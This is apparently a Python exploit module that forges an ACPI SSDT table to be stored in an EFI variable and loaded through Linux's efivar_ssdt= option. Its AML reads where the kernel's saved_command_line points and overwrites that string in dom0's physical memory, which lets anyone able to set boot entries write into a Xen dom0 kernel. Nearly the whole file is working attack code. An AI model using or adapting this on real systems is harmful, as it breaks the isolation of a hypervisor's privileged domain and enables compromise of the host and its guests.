"""A program in an EFI variable that writes dom0's memory, as whoever sets boot entries can store one.

Linux loads the table that ``efivar_ssdt=`` names, and ACPICA runs it: AML may read and write physical memory
(ACPI 6.5, 5.2.11.2 and 20.2: SSDT, AML byte stream; Linux, admin-guide/acpi/ssdt-overlays.rst). dom0's kernel
is not moved by KASLR, so where its command line lies can be read on any machine with the same kernel.
"""

from __future__ import annotations

import struct
from typing import Final

NAME: Final = "LABSSDT"
KERNEL_BASE: Final = 0xFFFF_FFFF_8000_0000
"""Where Linux maps its own image (``__START_KERNEL_map``); below it, the address is a physical one."""
_MEMORY: Final = b"\x00"
_BYTES: Final = 1
"""A field is accessed byte by byte."""
_WORDS: Final = 3
"""Or by 32 bits."""
_STORE: Final = b"\x70"
_BUFFER: Final = b"\x11"
_SHORT: Final = 1 << 6
_LONG: Final = 1 << 12


def forging(pointer: int, line: str) -> bytes:
    """Return the table that puts ``line`` where the kernel's ``saved_command_line`` points to.

    ``pointer`` is the virtual address of that variable, as ``/proc/kallsyms`` has it.
    """
    text = line.encode() + b"\0"
    at = b"\x0c" + struct.pack("<I", pointer - KERNEL_BASE)
    size = b"\x0b" + struct.pack("<H", len(text))
    code = _region(b"LABP", at, b"\x0a\x04") + _field(b"LABP", b"PTR_", 32, _WORDS)
    # The low 32 bits of an address in the direct map are those of the physical one.
    code += _region(b"LABS", b"PTR_", size) + _field(b"LABS", b"STR_", 8 * len(text), _BYTES)
    code += _STORE + _BUFFER + _sized(size + text) + b"STR_"
    head = struct.pack("<4sIBB6s8sI4sI", b"SSDT", 36 + len(code), 2, 0, b"LAB   ", b"LAB     ", 1, b"LAB ", 1)
    table = bytearray(head + code)
    table[9] = -sum(table) & 0xFF
    return bytes(table)


def _region(name: bytes, offset: bytes, length: bytes) -> bytes:
    return b"\x5b\x80" + name + _MEMORY + offset + length


def _field(region: bytes, name: bytes, bits: int, access: int) -> bytes:
    return b"\x5b\x81" + _sized(region + bytes([access]) + name + _number(bits))


def _sized(content: bytes) -> bytes:
    """Put the length before it, which counts itself (PkgLength)."""
    size = next(size for size, end in ((1, _SHORT), (2, _LONG)) if len(content) + size < end)
    return _number(len(content) + size) + content


def _number(value: int) -> bytes:
    return bytes([value]) if value < _SHORT else bytes([0x40 | value & 15, value >> 4])
